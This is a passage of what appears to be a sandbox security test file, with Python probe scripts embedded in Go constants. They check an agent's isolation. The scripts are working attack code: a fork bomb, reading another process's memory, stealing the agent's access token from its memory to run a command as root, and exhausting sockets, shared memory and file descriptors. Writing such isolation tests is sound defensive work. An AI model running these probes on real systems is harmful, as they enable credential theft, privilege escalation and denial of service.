    try:
        socket.socket(fam, socket.SOCK_DGRAM).sendto(b"x", (host, int(p)))
    except Exception:
        pass
    print(t, r, flush=True)
`

// bombProbe forks as many children as it can (each sleeps), then prints
// "full N" and waits.
const bombProbe = `import os, time
n = 0
while True:
    try:
        pid = os.fork()
    except OSError as e:
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    n += 1
print("full", n, flush=True)
time.sleep(120)
`

// scanProbe looks for argv[1] in the memory of process argv[2].
const scanProbe = `import sys
tok, pid = sys.argv[1].encode(), sys.argv[2]
with open("/proc/%s/maps" % pid) as m, open("/proc/%s/mem" % pid, "rb", 0) as mem:
    for line in m:
        f = line.split()
        if "r" not in f[1]:
            continue
        lo, hi = (int(x, 16) for x in f[0].split("-"))
        try:
            mem.seek(lo)
            if tok in mem.read(hi - lo):
                print("FOUND at", f[0])
                break
        except OSError:
            pass
`

// stealProbe, run as user, looks through the memory of every process of
// the agent's binary it can read for a 48-hex-digit string that the agent
// takes as its access token, and with it asks the agent to run a command
// as root that writes /tmp/pwned.
const stealProbe = `import json, os, re, urllib.request
def start_as_root(token):
    body = json.dumps({"process": {"cmd": "/bin/sh", "args": ["-c", "id -u > /tmp/pwned"]}}).encode()
    req = urllib.request.Request("http://127.0.0.1:49983/process.Process/Start", method="POST",
        data=b"\0" + len(body).to_bytes(4, "big") + body,
        headers={"Content-Type": "application/connect+json", "Connect-Protocol-Version": "1",
                 "X-Access-Token": token, "Authorization": "Basic cm9vdDo="})
    try:
        urllib.request.urlopen(req, timeout=5).read(200)
        return True
    except Exception:
        return False
for p in os.listdir("/proc"):
    if not p.isdigit():
        continue
    try:
        if b"tupper-agent" not in open("/proc/%s/cmdline" % p, "rb").read():
            continue
        maps = open("/proc/%s/maps" % p).read().splitlines()
        mem = open("/proc/%s/mem" % p, "rb", 0)
    except OSError as e:
        print(p, "unreadable:", e.strerror)
        continue
    tried = set()
    for line in maps:
        f = line.split()
        if "r" not in f[1]:
            continue
        lo, hi = (int(x, 16) for x in f[0].split("-"))
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except OSError:
            continue
        for m in re.finditer(rb"(?<![0-9a-f])[0-9a-f]{48}(?![0-9a-f])", data):
            cand = m.group().decode()
            if cand in tried:
                continue
            tried.add(cand)
            if start_as_root(cand):
                print("TOKEN of the agent found in the memory of pid", p)
                raise SystemExit(0)
print("no token found")
`

// tcpMemProbe queues argv[2] MiB of unread data on each of argv[1]
// loopback TCP connections, prints "queued BYTES" and holds them argv[3]
// seconds.
const tcpMemProbe = `import socket, sys, time
n, per, hold = int(sys.argv[1]), int(sys.argv[2]) << 20, float(sys.argv[3])
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(64)
keep, total = [], 0
chunk = b"x" * (1 << 20)
for i in range(n):
    c = socket.socket()
    c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 64 << 20)
    c.connect(srv.getsockname())
    a, _ = srv.accept()
    a.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 << 20)
    c.setblocking(False)
    sent = 0
    while sent < per:
        try:
            sent += c.send(chunk)
        except BlockingIOError:
            break
    total += sent
    keep.append((c, a))
print("queued", total, flush=True)
time.sleep(hold)
`

// sysvProbe makes argv[1] System V shared memory segments of argv[2] MiB,
// touches each and leaves it, unattached, behind.
const sysvProbe = `import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
n, size = int(sys.argv[1]), int(sys.argv[2]) << 20
for i in range(n):
    sid = libc.shmget(0, size, 0o1600)
    p = libc.shmat(sid, None, 0)
    ctypes.memset(ctypes.c_void_p(p), 1, size)
    libc.shmdt(ctypes.c_void_p(p))
    print("segment", i, flush=True)
`

// holdProbe raises its descriptor limit to the hard limit, opens as many
// connections to 127.0.0.1:argv[1] as it can, prints "holding N" and holds
// them argv[2] seconds.
const holdProbe = `import resource, socket, sys, time
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
keep = []
try:
    for i in range(hard):
        s = socket.socket()
        s.connect(("127.0.0.1", int(sys.argv[1])))
        keep.append(s)
except OSError as e:
    pass
print("holding", len(keep), flush=True)
time.sleep(float(sys.argv[2]))
`
